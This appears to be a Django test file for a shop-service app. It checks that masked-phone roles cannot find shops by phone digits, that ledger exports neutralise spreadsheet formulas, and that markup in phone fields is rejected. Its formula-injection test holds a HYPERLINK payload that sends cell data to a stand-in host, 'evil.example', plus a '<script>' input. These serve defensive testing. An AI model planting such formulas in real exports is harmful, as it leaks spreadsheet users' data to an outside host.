"""Leaks found by probing (issue 13): masked phones recovered by search; formula injection in the ledger."""

import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from serviceloop.core.testing import make_customer, work_file

pytestmark = pytest.mark.django_db

PHONE = "15912342508"


@pytest.fixture
def shop(world):
    return make_customer(world.route_a1_1, name="老街口便利店", phone=PHONE)


def customer_names(client, q):
    return client.get("/customers/", {"q": q}).content.decode()


@pytest.mark.parametrize("q", ["2508", "42508", "912342508", PHONE])
def test_a_role_that_sees_masked_phones_cannot_find_a_shop_by_its_phone(client, world, shop, q):
    client.force_login(world.supervisor)
    page = client.get("/customers/", {"q": q}).content.decode()
    assert "老街口便利店" not in page
    api = APIClient()
    api.force_authenticate(world.supervisor)
    assert api.get("/api/v1/customers/", {"q": q}).json()["count"] == 0
    desk = client.get(reverse("servicedesk:shop-search"), {"q": q}).content.decode()
    assert "老街口便利店" not in desk


def test_a_masked_role_still_finds_the_shop_by_name_and_licence(client, world, shop):
    client.force_login(world.supervisor)
    assert "老街口便利店" in client.get("/customers/", {"q": "老街口"}).content.decode()
    assert "老街口便利店" in client.get("/customers/", {"q": shop.licence_no}).content.decode()
    assert PHONE not in client.get("/customers/", {"q": "老街口"}).content.decode()


def test_a_role_that_sees_full_phones_finds_the_shop_by_its_phone(client, world, shop):
    client.force_login(world.station_head)
    assert "老街口便利店" in client.get("/customers/", {"q": "2508"}).content.decode()
    assert "老街口便利店" in client.get(reverse("servicedesk:shop-search"), {"q": "1591234"}).content.decode()
    api = APIClient()
    api.force_authenticate(world.station_head)
    assert api.get("/api/v1/customers/", {"q": PHONE}).json()["count"] == 1


@pytest.mark.parametrize(
    "payload", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "=1+2", "+1", "-2+3", "@SUM(A1)"]
)
def test_public_qr_text_is_inert_in_the_ledger_export(client, world, shop, payload):
    from django.core.cache import cache

    from serviceloop.portal.intake import portal_request_file
    from serviceloop.portal.services import shoptoken_ensure
    from serviceloop.servicedesk.models import Category

    cache.clear()
    link = shoptoken_ensure(customer=shop, actor=None, now=timezone.now())
    portal_request_file(
        link=link, category=Category.objects.filter(active=True).first(), kind="complaint", text=payload,
        idempotency_key="k" * 32, client_address="10.0.0.1", now=timezone.now(),
    )  # fmt: skip
    client.force_login(world.city_admin)
    # written in the background: the file is downloaded from the work page the export redirects to
    content = work_file(client, client.get(reverse("servicedesk:ledger-export")))
    wb = load_workbook(io.BytesIO(content))
    cells = [
        c
        for row in wb.worksheets[0].iter_rows()
        for c in row
        if isinstance(c.value, str) and payload[1:] in c.value
    ]
    assert cells, "the request text is in the ledger"
    assert all(c.data_type == "s" and not c.value.startswith(("=", "+", "-", "@")) for c in cells)


@pytest.mark.parametrize(
    "change,field",
    [
        ({"latitude": "449.5"}, "latitude"),
        ({"longitude": "-200"}, "longitude"),
        ({"phone": "abc<script>"}, "phone"),
    ],
)
def test_the_api_refuses_impossible_coordinates_and_phones(world, shop, change, field):
    api = APIClient()
    api.force_authenticate(world.city_admin)
    response = api.patch(f"/api/v1/customers/{shop.pk}/", change, format="json")
    assert response.status_code == 400 and field in response.json()
    shop.refresh_from_db()
    assert shop.phone == PHONE and shop.latitude is None


def test_the_customer_form_refuses_a_phone_with_markup(app, world, shop):
    page = app.get(f"/customers/{shop.pk}/edit/", user=world.city_admin)
    form = next(f for f in page.forms.values() if "phone" in f.fields)
    form["phone"] = "abc<script>"
    response = form.submit(expect_errors=True)
    assert "请输入电话号码" in response.text
    shop.refresh_from_db()
    assert shop.phone == PHONE
